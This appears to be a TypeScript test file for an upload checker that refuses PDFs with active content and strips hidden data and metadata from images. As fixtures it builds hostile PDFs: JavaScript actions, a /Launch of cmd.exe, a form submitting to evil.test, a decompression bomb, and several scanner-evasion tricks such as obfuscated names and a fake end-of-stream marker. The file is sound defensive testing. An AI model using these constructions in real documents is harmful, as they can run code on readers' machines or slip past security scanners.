import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { carriers, hidden } from '#tests/support/pictures/attacks.ts'
import { share } from '#tests/support/run/soak.ts'
import { checkedPaper, kindOfPaper } from './paper.ts'

/** A PDF of these objects; what reads it here needs no table of them. */
const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object, index) =>
      Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ])
const page = '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>'
const packed = (text: string) => {
  const body = deflateSync(Buffer.from(text))
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream')])
}

describe('a PDF', () => {
  test('that only is read stays as it is', async () => {
    const file = pdf(page, packed('4 0 << /Type /Page >>'))
    expect(await checkedPaper(file)).toEqual({
      bytes: file,
      contentType: 'application/pdf',
      extension: 'pdf',
    })
  })

  test.each([
    ['a script', pdf(page, '<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script whose name is written in numbers', pdf(page, '<< /S /J#61vaScript /JS (x) >>')],
    ['a script that lies packed', pdf(page, packed('4 0 << /S /JavaScript /JS (x) >>'))],
    ['a program to be started', pdf(page, '<< /S /Launch /F (cmd.exe) >>')],
    ['a file inside', pdf(page, '<< /Names << /EmbeddedFiles 7 0 R >> >>')],
    ['a form that sends', pdf(page, '<< /S /SubmitForm /F (http://evil.test) >>')],
    ['a password', pdf(page, '<< /Encrypt 9 0 R >>')],
  ])('with %s is refused', async (_, file) => {
    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PaperActive' })
  })

  test.each([
    ['that is cut off', pdf(page).subarray(0, 40)],
    ['that unpacks to more than any honest one', pdf(page, packed('x'.repeat(70_000_000)))],
    [
      'that hides what is packed',
      pdf(page, packed('4 0').toString('latin1').replace('/ObjStm', '/Obj#53tm')),
    ],
  ])('%s cannot be read', async (_, file) => {
    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PictureUnusable' })
  })
})

/** Packed objects of a script that a reader finds, and a quick look does not. */
const script = Buffer.from('4 0 << /S /JavaScript /JS (x) >>')
const packedAs = (dictionary: string, body: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${dictionary} >>\nstream\n`, 'latin1'), body, Buffer.from('\nendstream')])
const harmless = deflateSync(Buffer.from('4 0 << >>')).toString('latin1')
/** Its first block is kept as it is, so that the word stands in the file; the second is pressed. */
const endsEarly = () => {
  const word = Buffer.from('% endstream\n')
  const whole = Buffer.concat([word, script])
  const block = Buffer.alloc(5)
  block.writeUInt16LE(word.length, 1)
  block.writeUInt16LE(~word.length & 0xffff, 3)
  return Buffer.concat([Buffer.from([0x78, 0x9c]), block, word, deflateRawSync(script), adler(whole)])
}
function adler(bytes: Buffer): Buffer {
  let [a, b] = [1, 0]
  for (const byte of bytes) {
    a = (a + byte) % 65_521
    b = (b + a) % 65_521
  }
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(b * 65_536 + a)
  return sum
}

describe('a PDF that packs a script', () => {
  test.each([
    ['far behind the name', `/Type /ObjStm ${' '.repeat(2_100)} /Filter /FlateDecode`, deflateSync(script)],
    ['twice', '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(script))],
    [
      'by differences',
      '/DecodeParms 8 0 R /Type /ObjStm /Filter /FlateDecode',
      deflateSync(Buffer.from('x')),
    ],
    [
      'behind a text that looks like it',
      `/Type /ObjStm /X (stream\n${harmless}) /Filter /FlateDecode`,
      script,
    ],
  ])('%s cannot be read', async (_, dictionary, body) => {
    const file = pdf(page, packedAs(dictionary, body))
    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PictureUnusable' })
  })

  test('after a word that looks like the end is refused', async () => {
    const file = pdf(page, packedAs('/Type /ObjStm /Filter /FlateDecode', endsEarly()))
    await expect(checkedPaper(file)).rejects.toMatchObject({ name: 'PaperActive' })
  })
})

describe('a picture', () => {
  test('of a phone is drawn anew, upright, smaller, with nothing but its pixels', async () => {
    const photo = await sharp({ create: { width: 4_032, height: 3_024, channels: 3, background: '#2a6' } })
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'SECRET-CAMERA' } } })
      .toBuffer()
    const { bytes, contentType } = await checkedPaper(photo)
    expect(contentType).toBe('image/jpeg')
    expect(await sharp(bytes).metadata()).toMatchObject({ format: 'jpeg', width: 1_650, height: 2_200 })
    expect(bytes.includes('SECRET-CAMERA')).toBe(false)
  })

  test.each(['PNG', 'JPEG', 'WebP'])('that carries something hidden loses it: a %s', async (kind) => {
    const all = Object.keys(carriers).filter((name) => name.startsWith(`a ${kind} `))
    expect(all.length).toBeGreaterThan(3)
    // that none of it reaches a decoder, whatever it is, is tried where the parts are picked
    for (const name of share(all, 1, kind))
      expect((await checkedPaper(await carriers[name]!())).bytes.includes(hidden), name).toBe(false)
  })

  test('is told by its bytes, whatever it is called', () => {
    expect(kindOfPaper(Buffer.from('<script>alert(1)</script>'))).toBeUndefined()
    expect(kindOfPaper(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeUndefined()
    expect(kindOfPaper(Buffer.from('MZ\x90\0'))).toBeUndefined()
    const jpeg = Buffer.from([0xff, 0xd8, 0xff])
    expect(kindOfPaper(Buffer.concat([jpeg, Buffer.from('%PDF-1.7')]))).toBe('picture')
    expect(kindOfPaper(Buffer.from('<html>%PDF-1.7'))).toBeUndefined()
  })
})
